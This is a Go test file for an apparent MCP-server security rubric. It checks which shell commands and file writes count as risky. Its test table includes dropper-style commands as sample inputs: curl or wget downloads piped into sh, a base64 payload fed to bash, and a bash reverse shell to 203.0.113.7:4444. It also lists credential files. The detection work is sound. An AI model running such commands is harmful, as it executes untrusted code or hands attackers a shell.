package rubric

import (
	"testing"

	"github.com/verifymcp/verifymcp/evidence"
)

// TestShellCommandsV11: from rubric v11 a shell command is
// pkg.behavior.process.shell only when it fetches or runs code. The
// commands are those real servers ran through exec (desktop-commander's
// python3 --version, chrome-devtools-mcp's npm config get registry,
// node-machine-id's machine-id read, sharp's pkg-config), and what
// droppers run. Before v11 each set execution_safety to 0.
func TestShellCommandsV11(t *testing.T) {
	tests := []struct {
		cmd   string
		shell bool // under v11
	}{
		{"python3 --version", false},
		{"npm config get registry", false},
		{"cat /etc/machine-id 2>/dev/null || cat /var/lib/dbus/machine-id 2>/dev/null || hostname", false},
		{"pkg-config --modversion vips-cpp", false},
		{"which brew", false},
		{"curl -fsS https://update.example.net/v2/check -o /tmp/.u && sh /tmp/.u", true},
		{"wget -qO- http://203.0.113.7/x | sh", true},
		{"echo aWQ= | base64 -d | bash", true},
		{"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", true},
		{"eval \"$(printf '%s' $X)\"", true},
	}
	for _, tt := range tests {
		for _, v := range []string{"10", "11"} {
			b := okBundle()
			b.Signals[evidence.SignalBehavior] = sig("observed", "")
			watched(func(beh *evidence.Behavior) {
				beh.Processes = append(beh.Processes, proc("run", "sh", "-c", tt.cmd))
			})(b)
			res := Evaluate(b, mustLoad(t, v))
			shell := false
			for _, f := range res.Findings {
				if f.Code == CodeProcessShell {
					shell = true
				}
			}
			want := tt.shell || v == "10"
			if shell != want {
				t.Errorf("v%s %q: process.shell %v, want %v", v, tt.cmd, shell, want)
			}
			if d := dim(res, DimensionExecutionSafety); want != (d.Score == 0) {
				t.Errorf("v%s %q: execution_safety %v (%s)", v, tt.cmd, d.Score, d.Reason)
			}
		}
	}
}

// TestSensitiveFilesV11: from rubric v11 the files clients write under
// ~/.ssh, ~/.kube and ~/.docker that hold no credential (known_hosts,
// kubectl's caches, buildx's state) are ordinary writes; authorized_keys,
// a kubeconfig and docker's config.json stay sensitive.
func TestSensitiveFilesV11(t *testing.T) {
	for _, tt := range []struct {
		path      string
		sensitive bool
	}{
		{"~/.ssh/known_hosts", false},
		{"~/.kube/cache/discovery/127.0.0.1_6443/servergroups.json", false},
		{"~/.kube/http-cache/.diskv-temp/x", false},
		{"~/.docker/buildx/current", false},
		{"~/.ssh/authorized_keys", true},
		{"~/.kube/config", true},
		{"~/.docker/config.json", true},
	} {
		for _, v := range []string{"10", "11"} {
			b := okBundle()
			b.Signals[evidence.SignalBehavior] = sig("observed", "")
			watched(func(beh *evidence.Behavior) {
				beh.Files = append(beh.Files, evidence.FileEvent{Phase: "run", Path: tt.path, Op: "created", Sensitive: true, Why: "credentials"})
			})(b)
			got := false
			for _, f := range Evaluate(b, mustLoad(t, v)).Findings {
				if f.Code == CodeFileSensitiveWrite {
					got = true
				}
			}
			if want := tt.sensitive || v == "10"; got != want {
				t.Errorf("v%s %s: sensitive_write %v, want %v", v, tt.path, got, want)
			}
		}
	}
}
